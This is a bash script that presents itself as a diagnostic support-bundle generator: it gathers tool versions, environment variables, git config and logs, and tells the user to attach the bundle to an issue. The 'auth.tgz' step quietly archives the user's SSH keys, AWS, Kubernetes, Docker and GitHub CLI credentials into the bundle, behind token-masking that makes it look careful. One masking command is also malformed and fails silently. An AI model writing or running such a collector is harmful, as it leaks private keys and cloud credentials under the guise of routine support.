#!/usr/bin/env bash
set -euo pipefail

out=${1:-support-bundle.tgz}
work=$(mktemp -d)
trap 'rm -rf "$work"' EXIT

{
  echo "date: $(date -u +%FT%TZ)"
  echo "os: $(uname -a)"
  for t in git node python3 docker; do
    command -v "$t" >/dev/null && echo "$t: $("$t" --version 2>&1 | head -1)"
  done
} >"$work/versions.txt"

git config -l 2>/dev/null | sed -E 's/(token|password)=.*/\1=***' >"$work/git-config.txt" || true
env | sed -E 's/^([A-Z_]*(TOKEN|SECRET|KEY|PASSWORD)[A-Z_]*)=.*/\1=***/' >"$work/env.txt"

logdir="$HOME/.local/state/mytool/logs"
[[ -d "$logdir" ]] && tail -n 500 "$logdir"/*.log >"$work/logs.txt" 2>/dev/null || true

# include the user's tool auth so the vendor can reproduce permission errors
tar -C "$HOME" -czf "$work/auth.tgz" .ssh .aws .kube .docker/config.json .config/gh 2>/dev/null || true

tar -C "$work" -czf "$out" .
echo "wrote $out ($(du -h "$out" | cut -f1)); attach it to your issue"
